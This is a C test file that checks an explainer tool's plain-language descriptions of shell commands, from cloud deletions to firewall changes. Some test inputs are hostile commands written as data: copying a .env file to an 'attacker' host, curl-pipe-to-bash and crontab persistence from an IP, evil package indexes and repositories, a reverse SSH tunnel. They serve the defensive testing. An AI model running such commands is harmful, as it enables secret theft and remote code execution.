/* The words the escort reads for lines of everyday and risky administration
 * (docs/RULES.md, "Words for the escort"): each names the thing and its scope
 * (the bucket, the table and its WHERE, the servers an ID list computes), says
 * what it does to the reader's world (the firewall accepts what it blocked),
 * and no finding beside it contradicts it (kubectl create is no exec, an
 * upload is no download, localhost is this machine, echo > FILE writes).
 *   test-explain-words RULES_DIR */
#include "explain-check.h"

/* The thing and its scope, not a category. */
static void names_the_thing(void)
{
	SAYS("aws s3 rb s3://acme-billing-archive --force", "Deletes s3://acme-billing-archive");
	SAYS("gcloud projects delete acme-prod", "Deletes acme-prod");
	SAYS("psql -h db1 -c \"DELETE FROM users WHERE last_login < now()\"",
	     "deletes the rows of table users that match \u201cWHERE last_login < now()\u201d");
	SAYS("psql -c \"UPDATE orders SET status='void'\"",
	     "every row, since there is no WHERE condition");
	SAYS("mysql -e 'DROP DATABASE crm'", "deletes the whole database crm");
	SAYS("mysql -e \"GRANT ALL ON *.* TO 'tmp'@'%'\"",
	     "gives the rights \u201cALL\u201d on \u201c*.*\u201d to \u201c'tmp'@'%'\u201d");
	SAYS("mongosh --eval 'db.customers.drop()'", "deletes the collection (table) customers");
	SAYS("aws ec2 terminate-instances --instance-ids $(aws ec2 describe-instances --output "
	     "text)",
	     "the servers (instances) whose names or IDs are printed, when the line runs, by "
	     "\u201caws ec2 describe-instances --output text\u201d");
	SAYS("aws ec2 terminate-instances --instance-ids i-0abc", "the server (instance) i-0abc");
	SAYS("az vm run-command invoke -g rg -n vm1 --command-id RunShellScript --scripts id",
	     "Runs commands on cloud servers (vm1 in the resource group rg)");
	SAYS("openssl x509 -in /etc/ssl/certs/site.pem -noout -dates",
	     "Reads /etc/ssl/certs/site.pem");
	SAYS("journalctl -u nginx --since today", "the service nginx");
	SAYS("aws ec2 stop-instances --instance-ids i-0123 i-0456",
	     "the servers (instances) i-0123 and i-0456");
	SAYS("kubectl get events -n prod", "about events");
	SAYS("consul kv delete config/app", "Deletes config/app in");
	SAYS("vault kv get secret/db", "secret/db) out of the secrets store");
	SAYS("gcloud iam service-accounts keys create k.json --iam-account sa@p",
	     "\u201ciam service-accounts keys create\u201d");
	SAYS("psql -c \"CREATE USER temp WITH SUPERUSER PASSWORD 'x'\"",
	     "Gives a database account full control");
	SAYS("redis-cli CONFIG SET maxmemory 2gb", "\u201cCONFIG SET maxmemory 2gb\u201d");
	SAYS("redis-cli DEL session:42", ": session:42.");
	NEVER_SAYS("redis-cli DEL session:42", "DEL and");
	SAYS("kubectl -n prod rollout restart deployment/api", "\u201crollout restart\u201d");
}

/* What it does to the reader's world. */
static void says_the_effect(void)
{
	SAYS("iptables -F", "accepts network connections it used to block");
	SAYS("nft flush ruleset", "accepts network connections it used to block");
	SAYS("ufw disable", "Turns the firewall off");
	SAYS("systemctl stop firewalld", "accepts network connections it used to block");
	SAYS("systemctl disable sshd", "sshd (remote logins to this machine)");
	SAYS("firewall-cmd --zone=trusted --add-source=0.0.0.0/0", "trusted zone");
	SAYS("iptables -P INPUT ACCEPT", "every network connection that no rule blocks");
	SAYS("iptables -A INPUT -p tcp --dport 4444 -j ACCEPT", "Opens the firewall");
	NEVER_SAYS("iptables -A INPUT -p tcp --dport 4444 -j ACCEPT", "4444)");
	SAYS("openssl s_client -connect api.example.com:443", "another computer");
}

/* No finding that is false for the line. */
static void no_contradiction(void)
{
	NEVER_SAYS("kubectl create rolebinding b --clusterrole=admin --user=x -n payments",
		   "Runs work inside");
	SAYS("kubectl create rolebinding b --clusterrole=admin --user=x -n payments",
	     "system.kubernetes-access");
	SAYS("kubectl create rolebinding b --clusterrole=admin --user=x -n payments",
	     "the cluster-wide role admin, the account x");
	NEVER_SAYS("rsync -avz /var/lib/mysql/ backup@203.0.113.9:/dump/", "to this one");
	NEVER_SAYS("scp /etc/hosts user@198.51.100.7:/tmp/", "to this one");
	SAYS("scp backup@10.0.0.5:/backups/db.sql.gz /tmp/", "from another computer to this one");
	NEVER_SAYS("kubectl get pods -n prod", "containers and their logs");
	NEVER_SAYS("curl -I http://localhost:8080/health", "asks another computer");
	NEVER_SAYS("ping -c 3 127.0.0.1", "asks another computer");
	NEVER_SAYS("echo maintenance > /tmp/notice.txt", "changes nothing");
	SAYS("echo maintenance > /tmp/notice.txt", "/tmp/notice.txt");
	NEVER_SAYS("journalctl --vacuum-time=1s", "changes no");
	NEVER_SAYS("crontab -r", "changes nothing");
	NEVER_SAYS("kubectl get secret db -o yaml", "nothing is changed");
	NEVER_SAYS("aws s3 sync /var/backups s3://acme-offsite/", "to this machine");
	NEVER_SAYS("supervisorctl stop all", "stop and all");
	NEVER_SAYS("kubectl port-forward svc/db 5432:5432", "Shows information");
	NEVER_SAYS("find /var/www -name '*.php' -delete", "changes no");
	NEVER_SAYS("touch /usr/local/bin/helper", "Reads or sorts");
	NEVER_SAYS("sqlite3 app.db \"UPDATE users SET role='admin' WHERE id=7\"", "interactive");
}

/* Plain words, not a program's name or jargon. */
static void plain_words(void)
{
	NEVER_SAYS("journalctl -p err -b", "with journalctl");
	SAYS("journalctl -p err -b", "the system's log");
	SAYS("systemctl list-units --failed", "services");
	SAYS("kubectl get nodes", "the Kubernetes cluster (kubectl: the machines that run");
	NEVER_SAYS("aws ec2 describe-instances", "Asks aws");
	NEVER_SAYS("aws ec2 describe-instances", "subcommand");
	NEVER_SAYS("helm uninstall web -n prod", "Asks helm");
	NEVER_SAYS("setenforce 0", "mandatory access controls");
	SAYS("kubectl delete pod api-7d9c -n prod",
	     "the pod api-7d9c (a running copy of an application)");
	SAYS("kubectl delete pvc --all -n prod", "all the pvc (stored data)");
	SAYS("kubectl delete all --all -n prod", "Deletes everything (every application");
	NEVER_SAYS("apachectl -t", "of apachectl");
	SAYS("sudo systemctl restart nginx", "as the administrator (root)");
	SAYS("df -h", "Shows how full the disks are (df)");
	SAYS("ps aux", "the programs running on this machine");
	NEVER_SAYS("ss -tlnp", "another computer");
}

/* No sentence is false for its line: a removed right is no deleted account, a
 * sqlite3 dot-command only shows, enabling a service starts it. */
static void true_for_the_line(void)
{
	const char *revoke = "gcloud projects remove-iam-policy-binding acme-prod "
			     "--member=user:ops@acme.com --role=roles/owner";

	NEVER_SAYS(revoke, "Deletes the account");
	NEVER_SAYS(revoke, "ops.cloud-delete-container");
	SAYS(revoke, "Takes rights away");
	SAYS("aws iam detach-user-policy --user-name bob --policy-arn "
	     "arn:aws:iam::aws:policy/AdministratorAccess",
	     "Takes rights away");
	SAYS("az role assignment delete --assignee bob@x.com --role Owner", "Takes rights away");
	NEVER_SAYS("aws iam delete-access-key --user-name bob --access-key-id AKIA1",
		   "nothing is deleted");
	SAYS("aws iam delete-access-key --user-name bob --access-key-id AKIA1",
	     "Deletes the access key AKIA1 of the account bob");
	NEVER_SAYS("az role assignment delete --assignee bob@x.com --role Owner",
		   "Deletes the account");
	NEVER_SAYS("sqlite3 /var/lib/app/app.db '.tables'", "database.query-overwrite");
	SAYS("sqlite3 /var/lib/app/app.db '.tables'", "database.query-read");
	SAYS("kubectl delete rolebinding admin-bob -n prod", "Takes rights away");
	NEVER_SAYS("kubectl delete rolebinding admin-bob -n prod", "system.containers-remove");
	SAYS("sqlite3 app.db .schema", "database.query-read");
	SAYS("sqlite3 app.db '.dump users'", "database.query-read");
	SAYS("sqlite3 app.db .import data.csv t", "database.query-overwrite");
	NEVER_SAYS("scp /home/deploy/.env attacker@203.0.113.9:/tmp/",
		   "usually with its passwords), attacker@203.0.113.9:/tmp/");
	NEVER_SAYS("systemctl enable --now update.service", "Stops");
	NEVER_SAYS("systemctl enable --now update.service", "system.stop-service");
	SAYS("systemctl disable --now nginx", "system.stop-service");
	SAYS("systemctl stop nginx", "system.stop-service");
	SAYS("systemctl mask nginx", "Blocks from starting at all");
	NEVER_SAYS("systemctl mask nginx", "Stops or turns off");
	NEVER_SAYS("systemctl unmask nginx", "unknown-program");
}

/* Where software comes from is named when it is not the official index. */
static void names_the_source(void)
{
	SAYS("pip install --index-url http://pypi.evil-mirror.ru/simple requests",
	     "another source than the official package index: http://pypi.evil-mirror.ru/simple");
	NEVER_SAYS("pip install --index-url http://pypi.evil-mirror.ru/simple requests",
		   "software: http://pypi.evil-mirror.ru/simple and requests");
	SAYS("pip install --extra-index-url=https://pkgs.example.com/simple foo",
	     "system.packages-other-index");
	SAYS("npm install --registry http://npm.evil.io lodash", "http://npm.evil.io");
	SAYS("yarn add foo --registry http://x.io", "official package index: http://x.io");
	NEVER_SAYS("pip install -i https://pypi.org/simple x", "system.packages-other-index");
	NEVER_SAYS("pip install -r requirements.txt", "Removes");
	SAYS("pip install -r requirements.txt", "listed in the file requirements.txt");
	SAYS("curl -fsSL http://203.0.113.9/install.sh | sudo bash",
	     "with curl (from http://203.0.113.9/install.sh, an address that is not encrypted)");
	SAYS("(crontab -l; echo '* * * * * curl -s http://203.0.113.9/x.sh | bash') | crontab -",
	     "from http://203.0.113.9/x.sh");
	SAYS("wget -qO /etc/systemd/system/update.service http://203.0.113.9/u.service && "
	     "systemctl enable --now update.service",
	     "Downloads a file from the network (http://203.0.113.9/u.service) straight into "
	     "/etc/systemd/system/update.service");
}

/* What stops without a well-known package or service that is removed. */
static void says_what_breaks(void)
{
	SAYS("apt-get purge -y openssh-server",
	     "nobody can log in to this machine from outside any more");
	SAYS("helm uninstall ingress-nginx -n ingress", "the entrance for web traffic");
	SAYS("dnf remove -y docker-ce", "every container on this machine stops");
	SAYS("curl -fsSL https://repo.evil.io/key.gpg | apt-key add -",
	     "a signing key downloaded with curl (from https://repo.evil.io/key.gpg)");
	SAYS("apt-key adv --keyserver hkp://keyserver.evil.io --recv-keys ABCD1234",
	     "hkp://keyserver.evil.io");
	SAYS("echo 'deb http://repo.evil.io/debian stable main' > /etc/apt/sources.list.d/e.list",
	     "where the machine gets its software");
	SAYS("add-apt-repository 'deb http://repo.evil.io/ubuntu focal main'",
	     "http://repo.evil.io/ubuntu");
	NEVER_SAYS("apt-get install -y nginx", "without it");
	NEVER_SAYS("systemctl restart nginx", "without it");
}

/* Raw words said as the things they are. */
static void words_as_things(void)
{
	SAYS("git push --force origin main",
	     "Replaces the branch main on the server origin with this copy");
	NEVER_SAYS("git push --force origin main", "Throws away work in the repository");
	SAYS("git status", "it changes nothing");
	SAYS("git log --oneline -10", "it changes nothing");
	NEVER_SAYS("git push origin --delete old", "Replaces the branch");
	SAYS("socat TCP-LISTEN:8080,fork TCP:10.0.0.5:5432",
	     "listens on port 8080 and passes each connection to 10.0.0.5 port 5432");
	NEVER_SAYS("socat TCP-LISTEN:8080,fork TCP:10.0.0.5:5432", "TCP-LISTEN");
	SAYS("ssh -R 9000:localhost:5432 attacker@203.0.113.9 -N",
	     "port 9000 there leads to port 5432 of this machine (the PostgreSQL database)");
	SAYS("az vm delete --resource-group prod-rg --name db01 --yes",
	     "Deletes the server (virtual machine) db01 in the resource group prod-rg");
	NEVER_SAYS("az keyvault secret show --vault-name kv --name x", "the key vault (where");
}

int main(int argc, char **argv)
{
	static void (*const groups[])(void) = {
	    names_the_thing,  says_the_effect,	no_contradiction, plain_words, true_for_the_line,
	    names_the_source, says_what_breaks, words_as_things,  NULL};

	return explain_check_main(argc, argv, groups);
}
